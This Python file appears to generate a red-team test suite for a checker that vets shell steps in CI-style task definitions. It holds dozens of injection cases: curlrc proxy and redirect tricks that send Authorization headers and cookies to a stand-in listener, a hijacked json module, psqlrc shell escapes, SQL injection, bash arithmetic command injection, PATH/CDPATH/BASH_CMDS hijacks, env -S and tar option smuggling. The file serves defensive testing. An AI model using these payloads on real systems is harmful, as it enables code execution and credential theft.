# Round thirty-six attacks (exec'd by gen_attacks.py; uses A, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r36-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r36-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there


CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
JQRC = 'def length: "%s";\n' % ARITH1
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
PSQLRC = "\\! %s\n" % SHP
SQLI = "'open' union all select 0, 'HARBOR-PWNED-' || 6*7"
PGC = 'PGPASSWORD="$DB_PASSWORD" psql -X -q -At -h 127.0.0.1 -p 15432 -U app -d app'
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}
APIPATH = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
           "description": "path on the reports API, e.g. reports/daily.json"}
REDIR = "go/127.0.0.1/18765/steal"

# ================================================================== step env: a place no note lists as writable
R35_ENV = ("Round 35 refuses a step env: value that names a place a step may write, listing 'the run directory, "
           "/tmp, /dev/shm, home'. ")

X("curl-home-var-tmp", "step-env-unlisted-place",
  "Store a client-settings snippet in the shared settings folder, then check the API status with the shared settings.",
  {"name": NAME, "snippet": ATT_TXT},
  [("save", 'mkdir -p /var/tmp/r36-app/curl\ncp -- "$ARG_snippet" "/var/tmp/r36-app/curl/$ARG_name"', None),
   ("status", 'curl -fsS -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/status', {"env": {"CURL_HOME": "/var/tmp/r36-app/curl"}})],
  {"name": ".curlrc", "snippet": b64(CURLRC)},
  R35_ENV + "/var/tmp is not among them (it is the FHS's persistent temporary folder, writable by every step "
  "without a sandbox), and a write of caller data to an absolute path outside the working folder does not make "
  "the working folder the caller's (rule 7). The caller names the file .curlrc; curl reads $CURL_HOME/.curlrc, "
  "whose proxy line sends the request with its Authorization header to the caller's listener.", head=SEC)

X("pythonpath-var-tmp", "step-env-unlisted-place",
  "Store a plugin module in the shared plugin folder, then count the users with the plugins importable.",
  {"name": NAME, "plugin": ATT_TXT},
  [("save", 'mkdir -p /var/tmp/r36-app/pylib\ncp -- "$ARG_plugin" "/var/tmp/r36-app/pylib/$ARG_name"', None),
   ("count", "python3 -c 'import json; print(len(json.load(open(\"data/users.json\"))))'", {"env": {"PYTHONPATH": "/var/tmp/r36-app/pylib"}})],
  {"name": "json.py", "plugin": b64(PYJSON)},
  R35_ENV + "In a list of folders every entry must be absolute and 'no such place': /var/tmp/r36-app/pylib is "
  "absolute and not one of the four. The caller's file is named json.py; python3 -c imports it in place of the "
  "standard library's json.")

X("home-proc-self-cwd-jq", "step-env-unlisted-place",
  "Keep a jq settings snippet next to the checkout, then report whether there are many orders.",
  {"name": NAME, "snippet": ATT_TXT},
  [("save", 'mkdir -p .cache/jqhome\ncp -- "$ARG_snippet" ".cache/jqhome/$ARG_name"', None),
   ("count", 'n=$(jq -r \'.orders | length\' data/orders.json)\nif (( n > 5 )); then echo "many orders: $n"; else echo "few orders"; fi',
    {"env": {"HOME": "/proc/self/cwd/.cache/jqhome"}})],
  {"name": ".jq", "snippet": b64(JQRC)},
  R35_ENV + "/proc/self/cwd/... is absolute and none of them by its spelling, but it is each process's working "
  "folder, which the save step filled with the caller's file (the checker reads jq as fine in such a folder: it "
  "reads no code there). jq reads $HOME/.jq, which redefines length; 'jq … | length' is read as a number "
  "(round 30), so its text reaches (( n > 5 )).")

X("psqlrc-var-tmp", "step-env-unlisted-place",
  "Store psql display settings in the shared settings folder, then count the orders.",
  {"name": NAME, "settings": ATT_TXT},
  [("save", 'mkdir -p /var/tmp/r36-app\ncp -- "$ARG_settings" "/var/tmp/r36-app/$ARG_name"', None),
   ("count", 'PGPASSWORD="$DB_PASSWORD" psql -q -At -h 127.0.0.1 -p 15432 -U app -d app -c "select count(*) from orders"',
    {"env": {"PSQLRC": "/var/tmp/r36-app/psqlrc"}})],
  {"name": "psqlrc", "settings": b64(PSQLRC)},
  R35_ENV + "PSQLRC names a file in /var/tmp, which is not among them, and no note names PSQLRC. psql without -X "
  "runs the file's backslash commands first: \\! runs a shell command.", head=DBSEC)

X("xdg-config-dev-shm-spelled", "step-env-unlisted-place",
  "Store a client-settings snippet in shared memory, then list the orders with the shared settings.",
  {"name": NAME, "snippet": ATT_TXT},
  [("save", 'mkdir -p /dev/shm/r36-app\ncp -- "$ARG_snippet" "/dev/shm/r36-app/$ARG_name"', None),
   ("fetch", 'curl -fsS -H "Authorization: Bearer $API_TOKEN" http://127.0.0.1:18766/api/orders', {"env": {"XDG_CONFIG_HOME": "/dev//shm/r36-app"}})],
  {"name": ".curlrc", "snippet": b64(CURLRC)},
  R35_ENV + "The value /dev//shm/r36-app is /dev/shm to the kernel but is not spelled /dev/shm (a doubled slash); "
  "a checker that compares the text misses it. curl reads $XDG_CONFIG_HOME/.curlrc: the caller's proxy gets the "
  "request and its Authorization header.", head=SEC)

# ================================================================== relative PATH entries under other spellings
R35_PATH = ("Round 35: in env: every PATH entry must be absolute; in the script a relative entry is refused where "
            "the script works in a folder a step may write. ")


def pkg(files):
    return tgz(files)


JQSTUB = (0o755, STUB)
A("env-path-leading-empty", "relative-path-entry", """
name: env_path_leading_empty
description: "Unpack an npm package and print its name and version."
args:
  package: %s
required: [package]
timeout: 30
steps:
  - name: s
    env: {PATH: ":/usr/local/bin:/usr/bin:/bin"}
    run: |
      mkdir -p "$HARBOR_RUN_DIR/pkg"
      tar -xzf "$ARG_package" -C "$HARBOR_RUN_DIR/pkg"
      cd "$HARBOR_RUN_DIR/pkg"
      jq -r '.name + " " + .version' package.json
""" % J(ATT_TGZ), {"package": pkg({"package.json": (0o644, '{"name": "x", "version": "1.0.0"}\n'), "jq": JQSTUB})},
  R35_PATH + "The literal PATH starts with ':', an EMPTY entry: no entry is relative as text (each non-empty one "
  "starts with '/'), but bash (execvp's rules) searches the current folder for an empty entry. After cd into the "
  "caller's unpacked package, 'jq' is the package's own file.")

X("path-tools-bin-unset", "relative-path-entry",
  "Unpack a site bundle and list its pages, with the team's pinned tools first on PATH when the server has them.",
  {"site": ATT_TGZ},
  [("s", 'PATH="${TOOLS_BIN-}:$PATH"\nmkdir -p "$HARBOR_RUN_DIR/site"\ntar -xzf "$ARG_site" -C "$HARBOR_RUN_DIR/site"\n'
         'cd "$HARBOR_RUN_DIR/site"\nfind . -name \'*.html\' | sort', None)],
  {"site": pkg({"index.html": (0o644, "<h1>x</h1>\n"), "find": JQSTUB})},
  R35_PATH + "The entry is ${TOOLS_BIN-}, a pass_env: value of the server (the author's side, rule 2), not a "
  "relative literal. When the server's TOOLS_BIN is empty (server_env) the entry is empty, which means the "
  "current folder: find is the caller's file.", head="pass_env: [TOOLS_BIN]\n", server_env={"TOOLS_BIN": ""})

X("path-pwd-node-modules", "relative-path-entry",
  "Unpack a Node project and list its npm scripts, with the project's own tools first.",
  {"app": ATT_TGZ},
  [("s", 'mkdir -p "$HARBOR_RUN_DIR/app"\ntar -xzf "$ARG_app" -C "$HARBOR_RUN_DIR/app"\ncd "$HARBOR_RUN_DIR/app"\n'
         'PATH="$PWD/node_modules/.bin:$PATH"\njq -r \'.scripts | keys[]\' package.json', None)],
  {"app": pkg({"package.json": (0o644, '{"scripts": {"test": "x"}}\n'), "node_modules/.bin/jq": JQSTUB})},
  R35_PATH + "The idiom node_modules/.bin:$PATH is written with $PWD in front, so the entry is absolute "
  "at run time and not relative as text (nor $HOME, $HARBOR_RUN_DIR, /tmp). It is the caller's folder.")

X("cdpath-relative-path", "relative-path-entry",
  "Count the pages of an uploaded docs bundle with the docs tools.",
  {"docs": ATT_TGZ},
  [("s", 'mkdir -p "$HARBOR_RUN_DIR/docs"\ntar -xzf "$ARG_docs" -C "$HARBOR_RUN_DIR/docs"\nCDPATH="$HARBOR_RUN_DIR"\n'
         'cd docs\nPATH="bin:$PATH"\nfind . -name \'*.md\' | wc -l', None)],
  {"docs": pkg({"index.md": (0o644, "# x\n"), "bin/find": JQSTUB})},
  R35_PATH + "'cd docs' reads as the repository's docs/ folder, which no step writes, so PATH=bin:$PATH would be "
  "accepted ('works only in folders no step writes'). But the script set CDPATH (a bash setting a step's env: may "
  "not give, but the script may): bash's cd searches $CDPATH first and lands in the run directory's docs/, the "
  "caller's bundle; bin/find is the caller's.")

# ================================================================== psql: what psql reads as a literal (again)
R35_PSQL = ("Round 33 reads psql's SQL for a bare :NAME outside its quoted literals; round 35 steps over comments and "
            "dollar-quoted strings whole. ")
X("psql-nested-block-comment", "psql-literal-misread", "List the orders in a status.",
  {"status": {"type": "string", "maxLength": 200, "description": "order status, e.g. open"}},
  [("s", PGC + ' -v st="$ARG_status" <<\'SQL\'\n/* open orders /* OPS-42 */ note: the status isn\'t free text */\n'
         'select id, item from orders where status = :st;\n-- end of report \'\nSQL', None)],
  {"status": SQLI},
  R35_PSQL + "PostgreSQL and psql NEST block comments: the comment ends at the second */. Stepped over to the "
  "FIRST */ (not nested), the apostrophe of isn't opens a literal that runs to the last line's apostrophe, so "
  ":st looks quoted while psql splices the caller's SQL there.", head=DBSEC)

X("psql-dollar-in-identifier", "psql-literal-misread", "List the orders in a status.",
  {"status": {"type": "string", "maxLength": 200, "description": "order status, e.g. open"}},
  [("s", PGC + ' -v st="$ARG_status" <<\'SQL\'\nselect id, item as item$label$ from orders where status = :st; -- $label$\nSQL', None)],
  {"status": SQLI},
  R35_PSQL + "In PostgreSQL '$' may continue an identifier: item$label$ is one name, not a dollar quote. Read as "
  "a dollar-quoted string opening at $label$ and closing in the comment, :st looks quoted; psql splices it.",
  head=DBSEC)

# ================================================================== jq's errors joined, other spellings
R35_JQ = ("Round 35: what jq prints is no JSON text where its errors join the output (2>&1, |&, 2>/dev/fd/1, "
          "2>/proc/self/fd/1, 2>/dev/stdout, exec … 2>). halt_error prints the caller's --arg string raw. ")
KEY = {"type": "string", "maxLength": 200, "description": "a setting of the service, e.g. port"}
R("jq-halt-error-function-redirect", "jq-stderr-joined", "Tell whether a setting of the service is above 1024.",
  {"key": KEY},
  """
  setting() {
    jq --arg k "$ARG_key" '.service[$k] // ($k + " is not a setting of the service\\n" | halt_error)' config/app.json
  } 2>&1
  read -r v < <(setting)
  if (( v > 1024 )); then echo "above 1024"; else echo "at most 1024"; fi
  """, {"key": ARITHB},
  R35_JQ + "Here the redirection belongs to the function's DEFINITION (bash applies it at every call): jq's own "
  "command has none, and read takes the first line of the call's output, which is halt_error's raw text.")

R("jq-halt-error-tee-procsub", "jq-stderr-joined", "Tell whether a setting of the service is above 1024.",
  {"key": KEY},
  """
  v=$(jq --arg k "$ARG_key" '.service[$k] // ($k + " is not a setting\\n" | halt_error)' config/app.json \\
        2> >(tee -a "$HARBOR_RUN_DIR/jq-errors.log")) || true
  if (( v > 1024 )); then echo "above 1024"; else echo "at most 1024"; fi
  """, {"key": ARITHB},
  R35_JQ + "Here stderr goes to a process substitution (tee, logging the errors) whose stdout is the command "
  "substitution's: the raw message is captured too. None of the listed spellings.")

# ================================================================== jq raw output, other spellings
JR = ("Round 32: what jq prints without -r, -j, --seq or -C is JSON texts, inert in arithmetic (a string stops bash "
      "at its quote). ")
SPEC = {"type": "string", "maxLength": 2000, "description": "the deployment as JSON, e.g. {\"replicas\": 3}"}
R("jq-raw-output-long", "jq-raw-output-spelling", "Check the replicas of a deployment document.", {"spec": SPEC},
  """
  n=$(jq --raw-output '.replicas' <<< "$ARG_spec")
  if (( n > 10 )); then echo "more than 10 replicas need approval"; else echo "ok: $n"; fi
  """, {"spec": json.dumps({"replicas": ARITH1})},
  JR + "--raw-output is -r's long spelling: the caller's string comes out raw, x[$(…)] reaches (( n > 10 )).")
R("jq-raw-output-cluster", "jq-raw-output-spelling", "Check the replicas of a deployment document.", {"spec": SPEC},
  """
  n=$(jq -er '.replicas' <<< "$ARG_spec")
  if (( n > 10 )); then echo "more than 10 replicas need approval"; else echo "ok: $n"; fi
  """, {"spec": json.dumps({"replicas": ARITH1})},
  JR + "-er is -e and -r in one cluster (the common 'fail on null' idiom): raw output.")

# ================================================================== null given a value by a synonym
R("null-readarray", "jq-literal-variable", "Report whether the service runs more than 3 replicas, with the caller's list of words that mean 'unset'.",
  {"nulls": {"type": "string", "maxLength": 200, "description": "comma-separated words to treat as missing"}},
  """
  readarray -t null < <(tr ',' '\\n' <<< "$ARG_nulls")
  echo "treating ${#null[@]} word(s) as missing"
  r=$(jq '.service.replicas' config/app.json)
  if (( r > 3 )); then echo "scaled out"; else echo "not scaled out"; fi
  """, {"nulls": ARITHB},
  "Round 34 refuses a script that gives true, false or null a value any way it lists (mapfile -t null, null[0]=…, "
  "${null=…}, for false in, local, a name reference). readarray is mapfile's other name. jq prints null "
  "(.service.replicas is unset in config/app.json); bash arithmetic reads the array null, whose first element is "
  "the caller's text.")

# ================================================================== a trap by another spelling voids a guard
R("trap-backslash-debug", "trap-alias-spelling", "Scale the service to a number of replicas, with a note.",
  {"replicas": {"type": "string", "pattern": "^[0-9]{1,3}$"}, "note": {"type": "string", "maxLength": 200}},
  """
  n="$ARG_replicas"
  [[ $n =~ ^[0-9]+$ ]] || exit 1
  \\trap 'n=$ARG_note' DEBUG
  if (( n > 20 )); then echo "capped at 20"; else echo "scaling to $n"; fi
  """, {"replicas": "5", "note": ARITHB},
  "Round 23: any trap voids the guards; round 34: 'an alias or trap is one where a command starts'. \\trap is "
  "trap to bash (quote removal; the usual way to skip an alias), but its command word is not the text 'trap'. "
  "Its DEBUG action runs before (( n > 20 )) and gives n the caller's note.")

# ================================================================== a secret's programs: answer
A("programs-answer-arith", "secret-programs-answer", """
name: programs_answer_arith
description: "Tell whether a ticket's estimate is too big."
secrets:
  TICKETS_TOKEN: {env: CI_TICKETS_TOKEN, programs: [./bin/ticketctl]}
programs:
  ./bin/ticketctl: {options_with_value: [], flags: [], runs_operands: false, stdin: data, output_options: []}
args:
  ticket: {"type": "string", "maxLength": 200, "description": "ticket key, e.g. OPS-42"}
required: [ticket]
timeout: 30
steps:
  - name: s
    run: |
      points=$(TICKETS_TOKEN="$TICKETS_TOKEN" ./bin/ticketctl estimate -- "$ARG_ticket")
      if (( points > 8 )); then echo "too big: split it"; else echo "fits"; fi
""", {"ticket": ARITHB},
  "Round 34: 'what a program a secret's programs: names prints (captured or read) is its answer, not the "
  "secret'. Read as the author's answer, it reaches arithmetic; but the program was given the caller's key "
  "(an operand its programs: entry calls data), and the in-house tool echoes an unknown key back ('KEY ?', "
  "tools/fixture/bin/ticketctl).")

# ================================================================== curl: credentials that follow a redirect
R18 = ("Round 18 refuses curl -L with a header other than Authorization:/Cookie:, which curl keeps to the first "
       "host; round 34 reads the header's name exactly. The author's API (:18766) redirects /go/HOST/PORT/… there. ")
R("curl-cookie-option-redirect", "curl-redirect-credential", "Fetch a report from the reports API.",
  {"path": APIPATH},
  """
  curl -fsS -L -b "session=$API_TOKEN" "http://127.0.0.1:18766/$ARG_path" -o "$HARBOR_RUN_DIR/report.json"
  jq -c . "$HARBOR_RUN_DIR/report.json"
  """, {"path": REDIR},
  R18 + "The cookie is given with -b NAME=VALUE (CURLOPT_COOKIE), not a Cookie: header: libcurl sends that "
  "cookie with every request of the transfer, the redirect's new host included.", head=SEC)
R("curl-header-stdin-two-lines", "curl-redirect-credential", "Fetch a report from the reports API.",
  {"path": APIPATH},
  """
  printf 'Authorization: Bearer %s\\nX-Api-Key: %s\\n' "$API_TOKEN" "$API_TOKEN" |
    curl -fsS -L --header @- "http://127.0.0.1:18766/$ARG_path"
  """, {"path": REDIR},
  R18 + "The headers come from stdin (the docs' own idiom, --header @-); the first line is Authorization:, the "
  "second X-Api-Key:, which curl sends to the redirect's host.", head=SEC)

# ================================================================== NEW: lastpipe
R("lastpipe-read-port", "lastpipe-read", "Check a host:port target (default db.internal:5432).",
  {"target": {"type": "string", "maxLength": 200, "description": "host:port, e.g. db.internal:5432"}},
  """
  shopt -s lastpipe
  host=db.internal
  port=5432
  printf '%s\\n' "$ARG_target" | IFS=: read -r host port
  if (( port < 1 || port > 65535 )); then echo "bad port" >&2; exit 1; fi
  echo "would check $host on port $port"
  """, {"target": "db:" + ARITHB},
  "No note mentions lastpipe. Without it, the read at the end of a pipeline runs in a subshell and host/port keep "
  "the author's values (the classic bug); with shopt -s lastpipe (job control is off in a script) the read runs "
  "in the script's shell and port is the caller's text, in arithmetic.")

# ================================================================== NEW: BASH_COMPAT
R("bash-compat-test-v-subscript", "bash-compat-level", "Print one of the service's labels.",
  {"label": {"type": "string", "maxLength": 200, "description": "a label name, e.g. team"}},
  """
  BASH_COMPAT=51    # the shared ops library still targets bash 5.1
  declare -A labels=([team]=ops [env]=prod [tier]=web)
  k="$ARG_label"
  if [[ -v labels[$k] ]]; then printf '%s=%s\\n' "$k" "${labels[$k]}"; else echo "no such label"; fi
  """, {"label": "$(%s >&2)" % SHP},
  "Rule 6 accepts a caller's key for an array proven associative (declare -A runs unconditionally before), and "
  "round 21 relies on bash 5.2 expanding such a key once. BASH_COMPAT (which a step's env: may not set, but the "
  "script may) at 51 restores 5.1's behaviour for [[ -v a[$k] ]]: the key is expanded twice, so the caller's "
  "$(…) runs.")

# ================================================================== NEW: BASH_CMDS
R("bash-cmds-pinned-jq", "bash-hash-table", "Print the name of an uploaded package with the jq the bundle pins.",
  {"bundle": ATT_TGZ},
  """
  mkdir -p "$HARBOR_RUN_DIR/b"
  tar -xzf "$ARG_bundle" -C "$HARBOR_RUN_DIR/b"
  BASH_CMDS[jq]="$HARBOR_RUN_DIR/b/tools/jq"
  jq -r .name "$HARBOR_RUN_DIR/b/package.json"
  """, {"bundle": pkg({"package.json": (0o644, '{"name": "x"}\n'), "tools/jq": JQSTUB})},
  "Security.md refuses hash -p (it chooses the file a command word runs). BASH_CMDS is the same table as an "
  "array: BASH_CMDS[jq]=FILE makes the command word jq run FILE, here the caller's file in the run directory "
  "(rule 7 refuses running it by its path).")

# ================================================================== NEW: CDPATH moves cd
R("cdpath-make-docs", "cdpath-cd", "Build the HTML of an uploaded docs bundle.",
  {"docs": ATT_TGZ},
  """
  mkdir -p "$HARBOR_RUN_DIR/docs"
  tar -xzf "$ARG_docs" -C "$HARBOR_RUN_DIR/docs"
  CDPATH="$HARBOR_RUN_DIR"
  cd docs
  make -s html
  """, {"docs": pkg({"index.md": (0o644, "# x\n"), "Makefile": (0o644, "html:\n\t@%s\n" % SHP.replace("$", "$$"))})},
  "The docs name CDPATH only for within: paths and for env:. make (no grammar) gets no caller data and runs in "
  "'docs', read as the repository's folder that no step writes; bash's cd searches $CDPATH first, so make runs the "
  "caller's Makefile in the run directory.")

# ================================================================== NEW: env -S in an argv step
A("env-split-string-argv", "wrapper-option-splits", """
name: env_split_string_argv
description: "List the log files whose names match a pattern."
args:
  name: {"type": "string", "maxLength": 200, "description": "file name pattern, e.g. *.log"}
required: [name]
timeout: 30
steps:
  - name: find
    argv: [env, -S, "find logs -type f -name {{ args.name }}"]
""", {"name": "*.log -exec sh -c '%s' ;" % SHP},
  "An argv: element is one argument whatever the value holds. But env -S (--split-string) splits its value into "
  "the command line it runs: the caller's blanks become argument boundaries, so find gets -exec sh -c '…' ;. The "
  "docs treat env as a wrapper whose command operand is checked; here the command is inside -S's value.")

# ================================================================== NEW: URL authority continues
R("url-authority-userinfo", "url-authority", "Call an endpoint of the internal API.",
  {"endpoint": {"type": "string", "pattern": "^[A-Za-z0-9/@:._-]{1,200}$", "description": "API path, e.g. /v1/health"}},
  """
  API=http://127.0.0.1:18766
  curl -fsS -H "Authorization: Bearer $API_TOKEN" "$API$ARG_endpoint"
  """, {"endpoint": "@127.0.0.1:18765/v1/health"},
  "The URL starts with the author's scheme and host in a constant assigned once (round 28: it stands for its "
  "text), and the caller's part follows. But no '/' closes the authority: a value starting '@' turns the author's "
  "host:port into userinfo, and the host becomes the caller's.", head=SEC)

# ================================================================== NEW: export spelled typeset -x / local -x
MK = 'app"; echo HARBOR-PWNED-$$((6*7)) | tee -a /tmp/harbor-r36-pwned "$$HARBOR_RUN_DIR/pwned"; echo "'
R("typeset-x-make", "export-spelling", "Print the project report for a component.",
  {"target": {"type": "string", "maxLength": 200, "description": "the component, e.g. app"}},
  """
  typeset -x TARGET="$ARG_target"
  make -s report
  """, {"target": MK},
  "Rule 7: caller data exported to every later program (export, declare -x, set -a) is refused; make gets only "
  "clean data. typeset is declare's other name: TARGET reaches make's environment, and the Makefile's "
  "TARGET ?= app takes it into the recipe's shell command.")
R("local-x-make", "export-spelling", "Print the project report for a component.",
  {"target": {"type": "string", "maxLength": 200, "description": "the component, e.g. app"}},
  """
  report() {
    local -x TARGET="$1"
    make -s report
  }
  report "$ARG_target"
  """, {"target": MK},
  "As typeset -x: local -x exports the function's TARGET to make.")

# ================================================================== NEW: xpg_echo makes a newline in a step output
X("xpg-echo-step-output", "echo-escapes-step-output", "Count the log lines, keep a note, and report.",
  {"note": {"type": "string", "maxLength": 200}},
  [("probe", 'shopt -s xpg_echo\nn=$(wc -l < logs/app.log)\necho "count=$n" >> "$HARBOR_STEP_OUTPUT"\n'
             'echo "note=$ARG_note" >> "$HARBOR_STEP_OUTPUT"', None),
   ("check", 'if (( STEP_probe_count > 100 )); then echo "big log"; else echo "small log ($STEP_probe_note)"; fi', None)],
  {"note": "ok\\ncount=" + ARITHB},
  "A step output holds exactly what echo \"key=$v\" prints of $v; a count is digits. With shopt -s xpg_echo bash's "
  "echo reads backslash escapes: the caller's \\n (two characters, valid: no newline) prints a newline, and the "
  "line count=… after it is the output count's last value.")

# ================================================================== NEW: read without -r drops the backslash
R("read-no-r-tar-member", "read-backslash", "List one file of an uploaded bundle.",
  {"bundle": ATT_TGZ, "member": {"type": "string", "maxLength": 300, "description": "the file to list, e.g. docs/index.md"}},
  """
  read member <<< "$ARG_member"     # trim the blanks around it
  tar -tvf "$ARG_bundle" "$member"
  """, {"bundle": pkg({"docs/index.md": (0o644, "# x\n")}),
        "member": '\\--use-compress-program=sh -c "echo %s | tee -a /tmp/harbor-r36-pwned $HARBOR_RUN_DIR/pwned >&2; gzip -dc"' % PW},
  "The value may not start with '-' and does not (it starts with a backslash). read without -r removes "
  "backslashes, so member starts with '--': tar reads --use-compress-program=… and runs it.")
